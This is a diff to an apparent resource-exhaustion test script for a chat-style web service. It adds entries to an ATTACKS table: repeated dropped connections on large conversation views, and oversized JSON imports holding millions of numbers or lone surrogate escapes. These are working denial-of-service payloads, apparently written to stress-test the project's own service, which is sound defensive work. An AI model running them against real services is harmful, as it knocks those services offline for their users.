@@ -50,7 +50,26 @@ def _hang_up(url: str, path: str, cookie: str) -> None:
         connection.sendall(f"GET {path} HTTP/1.1\r\nhost: {place.netloc}\r\ncookie: {cookie}\r\n\r\n".encode())
 
 
+def looks_hung_up(url: str, megabytes: float = 4.0, count: int = 50) -> str:
+    """Look at a long text and hang up, again and again. Return the status of the next look."""
+    with Client(url) as client:
+        path = f"/conversations/{long_chat(client, megabytes)}?format=blocks"
+        cookie = "; ".join(f"{name}={value}" for name, value in client.http.cookies.items())
+        for _ in range(count):
+            _hang_up(url, path, cookie)
+        return f"the next look: {client.http.get(path).status_code}"
+
+
+def costly_values(url: str, element: bytes, count: int = 1) -> str:
+    """Import elements of the largest size with as many values as they hold. Return the end of the answer."""
+    with Client(url) as client:
+        return client.http.post("/import", content=b"[" + b",".join([element] * count) + b"]").text[-200:]
+
+
 ATTACKS: dict[str, Callable[[str], object]] = {
     "40 exports at once, one cookie": exports_at_once,
     "six exports of 1 MB of Markdown that hang up": hung_up,
+    "50 looks at 4 MB of Markdown that hang up": looks_hung_up,
+    "an import of 16 million numbers each": lambda url: costly_values(url, b'{"a":[' + b"1," * 15_900_000 + b"1]}"),
+    "an import of halves of emoji": lambda url: costly_values(url, b'{"a":"' + b"\\ud800" * 2_600_000 + b'"}'),
 }
